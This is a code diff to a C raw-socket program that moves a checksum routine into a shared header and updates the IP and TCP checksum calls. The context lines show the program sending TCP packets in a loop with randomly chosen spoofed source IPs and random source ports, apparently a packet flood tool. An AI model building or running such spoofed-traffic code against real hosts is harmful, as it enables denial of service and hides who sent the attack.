@@ -8,6 +8,7 @@
 #include <arpa/inet.h>
 #include <unistd.h>
 #include <time.h>
+#include "../common/checksum.h"
 
 /* Pseudo header needed for TCP checksum calculation 
 */
@@ -19,32 +20,6 @@ struct pseudo_header {
     u_int16_t tcp_length;
 };
 
-/*
-    Generic checksum algorithm
-*/
-unsigned short csum(unsigned short *ptr, int nbytes) {
-    long sum;
-    unsigned short oddbyte;
-    short answer;
-
-    sum = 0;
-    while (nbytes > 1) {
-        sum += *ptr++;
-        nbytes -= 2;
-    }
-    if (nbytes == 1) {
-        oddbyte = 0;
-        *((u_char*)&oddbyte) = *(u_char*)ptr;
-        sum += oddbyte;
-    }
-
-    sum = (sum >> 16) + (sum & 0xffff);
-    sum = sum + (sum >> 16);
-    answer = (short)~sum;
-
-    return (answer);
-}
-
 int main(void) {
     // Create a raw socket
     int s = socket(PF_INET, SOCK_RAW, IPPROTO_TCP);
@@ -117,7 +92,7 @@ int main(void) {
         // Pick a random spoofed IP
         char *chosen_src = spoofed_ips[rand() % 4];
         iph->saddr = inet_addr(chosen_src);
-        iph->check = csum((unsigned short *) datagram, iph->tot_len);
+        iph->check = inet_checksum(datagram, iph->tot_len);
 
         // TCP Header - Random Source Port
         tcph->source = htons(1024 + rand() % 64511);
@@ -135,7 +110,7 @@ int main(void) {
         memcpy(pseudogram, (char*) &psh, sizeof(struct pseudo_header));
         memcpy(pseudogram + sizeof(struct pseudo_header), tcph, sizeof(struct tcphdr));
 
-        tcph->check = csum((unsigned short*) pseudogram, psize);
+        tcph->check = inet_checksum(pseudogram, psize);
 
         // Send the packet
         if (sendto(s, datagram, iph->tot_len, 0, (struct sockaddr *) &sin, sizeof(sin)) < 0) {